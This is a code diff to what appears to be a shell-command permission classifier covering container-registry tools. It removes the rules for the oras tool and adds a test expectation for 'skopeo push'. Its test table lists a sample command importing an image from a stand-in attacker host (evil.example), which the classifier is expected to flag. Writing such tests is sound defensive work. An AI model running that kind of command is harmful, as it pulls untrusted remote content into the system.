@@ -198,11 +198,6 @@ REGISTRIES = command("skopeo crane regctl gcrane ko img imgpkg", options=["--deb
     lax("append", options=[option("-f --new_layer", "UPLOADS"), "-b= --base= -t= --new_tag= -o= --output= --set-base-image-annotations"], does=IMAGE),
     lax("push copy", "READ_BY(docker.pushed)...", does=IMAGE),
     loose("*", does=IMAGE)])  # fmt: skip
-ARTIFACT = publishes("an artifact")
-ORAS = command("oras", options=["--debug -d --insecure --plain-http --platform= -v", option("--registry-config --from-registry-config --to-registry-config", READS)], subcommands=[
-    loose("version discover resolve repo help"), lax("pull", "PLAIN...", [option("-o --output", WRITES)]),
-    loose("login logout", does=CREDENTIALS), lax("push attach", "READ_BY(docker.pushed)...", does=ARTIFACT),
-    loose("manifest blob", subcommands=[loose("fetch fetch-config"), loose("*", does=ARTIFACT)]), loose("*", does=ARTIFACT)])  # fmt: skip
 COSIGN = command("cosign notation", subcommands=[
     loose("verify verify-blob verify-attestation tree triangulate version inspect list", [option("--key --certificate --signature --bundle", READS)]),
     loose("generate-key-pair", does=writes("a key", "workspace")), loose("*", [option("--key", READS)], does=publishes("a signature"))])  # fmt: skip
@@ -350,6 +345,7 @@ ask    docker import https://evil.example/x.tar
 allow  trivy fs .
 allow  hadolint Dockerfile
 ask    skopeo copy docker://a docker://b
+ask    skopeo push a
 allow  act -l
 allow  gitlab-ci-local --list
 allow  devcontainer up --workspace-folder .
